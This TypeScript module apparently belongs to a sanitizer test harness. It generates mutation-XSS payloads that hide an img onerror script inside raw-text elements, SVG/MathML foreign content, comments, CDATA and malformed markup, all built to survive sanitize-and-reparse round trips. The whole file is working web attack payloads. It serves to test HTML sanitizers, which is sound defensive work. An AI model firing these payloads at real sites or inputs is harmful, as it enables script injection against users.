import { inMarkup, SCRIPT } from './vector.ts';
import type { Attempt } from './vector.ts';

const IMG = `<img src=x: onerror=${SCRIPT}>`;
const HIDDEN = `&lt;img src=x: onerror=${SCRIPT}&gt;`;

/** Elements whose content one parser reads as text and another as markup. */
const RAW = [
  'style',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
  'noscript',
  'script',
  'textarea',
  'title',
  'plaintext',
  'template',
];
/** Ways into foreign content and back out of it. */
const FOREIGN_PATHS: readonly (readonly [open: string, close: string])[] = [
  ['<svg>', '</svg>'],
  ['<math>', '</math>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><mtext><table><mglyph>', '</mglyph></table></mtext></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<svg></p>', '</svg>'],
  ['<math></br>', '</math>'],
];

const OTHERS: readonly string[] = [
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${HIDDEN}">${IMG}`,
  `<math><mtext><table><mglyph><style><math><table id="</table>${IMG}">`,
  `<svg></p><style><a id="</style>${IMG}">`,
  `<svg><style><img title="</style>${IMG}"></svg>`,
  `<svg><a><foreignObject><a><table><a></table><style><!--</style></svg><a id="-><img/src/onerror=${SCRIPT}>">${IMG}`,
  `<!-- --!>${IMG}<!-- -->`,
  `<!-->${IMG}-->`,
  `<!--->${IMG}-->`,
  `<!doctype x "${IMG}">${IMG}`,
  `<![CDATA[${IMG}]]>`,
  `<svg><![CDATA[</svg>${IMG}]]></svg>`,
  `<svg><![CDATA[<style>]]></svg>${IMG}<svg></style></svg>`,
  `<math><![CDATA[</math>]]>${IMG}</math>`,
  `<?x ${IMG}?>`,
  `</${IMG}>${IMG}`,
  `<a title="&quot;><img src=x: onerror=${SCRIPT}>">word</a>${IMG}`,
  `<a title='\`><img src=x: onerror=${SCRIPT}>'>word</a>${IMG}`,
  `<p id="]]>${IMG}">word`,
  `<p title="${HIDDEN}">${HIDDEN}</p>${IMG}`,
  `<b>${HIDDEN.replaceAll('&', '&amp;')}</b>${IMG}`,
  `<table><tr><td><a id="x</table>${IMG}">`,
  `<table><caption><select><table>${IMG}`,
  `<select><template><img src=x: onerror=${SCRIPT}></template><svg><style></select>${IMG}`,
  `<ruby><rt><svg><title><rt>${IMG}`,
  `<p><svg><p><style><!--</style>${IMG}-->`,
  `<frameset></frameset>${IMG}<noframes></noframes>${IMG}`,
  `<details open><summary><svg><desc><xmp></desc></svg>${IMG}</xmp>`,
  `<listing>${HIDDEN}</listing>${IMG}`,
  `<input value="<textarea>"><textarea>"></textarea>${IMG}`,
  `<isindex prompt="x" action="javascript:${SCRIPT}">${IMG}`,
  `<image src=x: onerror=${SCRIPT}>`,
  `<svg><image href=x: onerror=${SCRIPT}>`,
  `<img src=x: alt="<!--" onerror=${SCRIPT} title="-->">`,
  `<a href="#" title="\u2028" onclick=${SCRIPT}>word</a>`,
  `<p>\u0000<img\u0000 src=x: onerror=${SCRIPT}>${IMG}`,
  `<svg:img src=x: onerror=${SCRIPT}></svg:img>${IMG}`,
  `<ｉｍｇ src=x: onerror=${SCRIPT}>${IMG}`,
  `${'<b>'.repeat(300)}${IMG}`,
  `${'<div>'.repeat(600)}${IMG}`,
];

/** Markup that changes its meaning when it is written and read once more. */
export function mutations(): readonly Attempt[] {
  const attempts: Attempt[] = [];
  for (const raw of RAW) {
    attempts.push(
      inMarkup('mutation', `${raw} ended in an attribute`, `<${raw}><p title="</${raw}>${IMG}">`),
    );
    for (const [open, close] of FOREIGN_PATHS) {
      const payload = `${open}<${raw}><a title="</${raw}>${IMG}"></a></${raw}>${close}`;
      attempts.push({ ...inMarkup('mutation', `${raw} in ${open}`, payload), carriers: ['html'] });
    }
  }
  OTHERS.forEach((payload, index) => attempts.push(inMarkup('mutation', `other ${index + 1}`, payload)));
  return attempts;
}
